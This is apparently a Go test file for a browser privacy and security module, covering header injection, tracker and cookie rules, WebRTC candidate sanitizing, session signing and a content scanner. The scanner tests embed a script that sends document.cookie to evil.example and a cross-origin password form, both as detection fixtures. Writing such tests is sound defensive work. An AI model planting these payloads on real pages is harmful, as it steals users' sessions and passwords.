package shield

import (
	"testing"
	"time"

	"github.com/coreweb/engine/headers"
)

func TestInjectRequestHeadersSetsStandardHeaders(t *testing.T) {
	h := headers.New()
	InjectRequestHeaders(h, LevelStandard, "")
	if v, ok := h.Get("Referrer-Policy"); !ok || v != "strict-origin-when-cross-origin" {
		t.Fatalf("unexpected Referrer-Policy: %q, %v", v, ok)
	}
	if v, ok := h.Get("X-Content-Type-Options"); !ok || v != "nosniff" {
		t.Fatalf("unexpected X-Content-Type-Options: %q", v)
	}
	if !h.Has("Content-Security-Policy") {
		t.Fatal("expected a default CSP to be injected")
	}
}

func TestInjectRequestHeadersMaximumRewritesUA(t *testing.T) {
	h := headers.New()
	h.Set("User-Agent", "custom-build/9.9")
	h.Set("Accept-Language", "en-US,en;q=0.9,fr;q=0.5")
	InjectRequestHeaders(h, LevelMaximum, "")
	if v, _ := h.Get("User-Agent"); v == "custom-build/9.9" {
		t.Fatal("expected User-Agent to be rewritten at Maximum")
	}
	if v, _ := h.Get("Accept-Language"); v != "en-US" {
		t.Fatalf("expected Accept-Language cut to its first language tag, got %q", v)
	}
}

func TestCustomCSPOverridesLevelDefault(t *testing.T) {
	h := headers.New()
	InjectRequestHeaders(h, LevelCustom, "default-src 'none'")
	if v, _ := h.Get("Content-Security-Policy"); v != "default-src 'none'" {
		t.Fatalf("expected custom CSP override, got %q", v)
	}
}

func TestTrackerFilterBlocksInsertedDomain(t *testing.T) {
	f := NewTrackerFilter(1000)
	f.Add("tracker.example")
	if !f.ShouldBlock("tracker.example", "https://site.example", ResourceScript) {
		t.Fatal("expected tracker.example to be blocked")
	}
	if f.ShouldBlock("cdn.example", "https://site.example", ResourceScript) {
		t.Fatal("did not expect cdn.example to be blocked")
	}
}

func TestCookiePolicyExactDomainBeatsSuffix(t *testing.T) {
	p := &CookiePolicy{
		Entries: []CookieEntry{
			{Domain: "example.com", Suffix: true, Rule: RuleBlock},
			{Domain: "accounts.example.com", Suffix: false, Rule: RuleAllow},
		},
		DefaultThirdParty: RuleBlock,
	}
	got := p.Evaluate("accounts.example.com", false, time.Now())
	if got != RuleAllow {
		t.Fatalf("expected exact-domain rule to win, got %v", got)
	}
	got = p.Evaluate("other.example.com", false, time.Now())
	if got != RuleBlock {
		t.Fatalf("expected suffix rule to apply, got %v", got)
	}
}

func TestCookiePolicyExpiredRuleIgnored(t *testing.T) {
	past := time.Now().Add(-time.Hour)
	p := &CookiePolicy{
		Entries: []CookieEntry{
			{Domain: "old.example.com", Suffix: false, Rule: RuleAllow, ExpiresAt: &past},
		},
		DefaultThirdParty: RuleBlock,
	}
	got := p.Evaluate("old.example.com", false, time.Now())
	if got != RuleBlock {
		t.Fatalf("expected expired rule to fall through to default, got %v", got)
	}
}

func TestCookiePolicyExceptionBypassesAllRules(t *testing.T) {
	p := &CookiePolicy{
		Entries: []CookieEntry{
			{Domain: "tracker.example", Suffix: false, Rule: RuleBlock},
		},
		Exceptions: map[string]bool{"tracker.example": true},
	}
	got := p.Evaluate("tracker.example", false, time.Now())
	if got != RuleAllow {
		t.Fatalf("expected exception to bypass the block rule, got %v", got)
	}
}

func TestClassifyICECandidate(t *testing.T) {
	kind, addr, ok := ClassifyICECandidate("candidate:1 1 UDP 2130706431 10.0.0.4 54321 typ host")
	if !ok || kind != ICEHost || addr != "10.0.0.4" {
		t.Fatalf("unexpected classification: kind=%v addr=%q ok=%v", kind, addr, ok)
	}
}

func TestSanitizeICECandidateStripsPrivateHostAtHigh(t *testing.T) {
	cand := "candidate:1 1 UDP 2130706431 192.168.1.5 54321 typ host"
	out, ok := SanitizeICECandidate(cand, LevelHigh)
	if !ok {
		t.Fatal("expected candidate to survive sanitization at High")
	}
	if out == cand {
		t.Fatal("expected the private host address to be replaced")
	}
}

func TestSanitizeICECandidateDisablesWebRTCAtMaximum(t *testing.T) {
	cand := "candidate:1 1 UDP 2130706431 192.168.1.5 54321 typ host"
	_, ok := SanitizeICECandidate(cand, LevelMaximum)
	if ok {
		t.Fatal("expected WebRTC candidates to be dropped entirely at Maximum")
	}
}

func TestScanContentFlagsScriptInjection(t *testing.T) {
	body := []byte(`<script>fetch('//evil.example?c=' + document.cookie)</script>`)
	if sev := ScanContent(body, "", ""); sev != SeverityHigh {
		t.Fatalf("expected SeverityHigh, got %v", sev)
	}
}

func TestScanContentFlagsPhishingFormCrossOrigin(t *testing.T) {
	body := []byte(`<form action="https://evil.example/collect"><input type="password"></form>`)
	sev := ScanContent(body, "https://evil.example/collect", "https://bank.example")
	if sev != SeverityHigh {
		t.Fatalf("expected SeverityHigh for cross-origin password form, got %v", sev)
	}
}

func TestScanResponseReplacesBodyOnHighSeverity(t *testing.T) {
	h := headers.New()
	body := []byte(`<script>document.cookie</script>`)
	status, newBody := ScanResponse(200, body, h, "", "")
	if status != 403 {
		t.Fatalf("expected 403, got %d", status)
	}
	if len(newBody) == 0 {
		t.Fatal("expected a non-empty block page body")
	}
}

func TestSessionSignerRoundTrip(t *testing.T) {
	s := NewSessionSigner([]byte("test-secret-key-material-32bytes"))
	tok, err := s.Sign("example.com", "sess-1", time.Hour)
	if err != nil {
		t.Fatalf("Sign: %v", err)
	}
	domain, sid, err := s.Verify(tok)
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if domain != "example.com" || sid != "sess-1" {
		t.Fatalf("unexpected claims: domain=%q sid=%q", domain, sid)
	}
}

func TestSessionSignerRejectsTamperedToken(t *testing.T) {
	s := NewSessionSigner([]byte("secret-a"))
	tok, _ := s.Sign("example.com", "sess-1", time.Hour)
	other := NewSessionSigner([]byte("secret-b"))
	if _, _, err := other.Verify(tok); err == nil {
		t.Fatal("expected verification to fail with a different secret")
	}
}
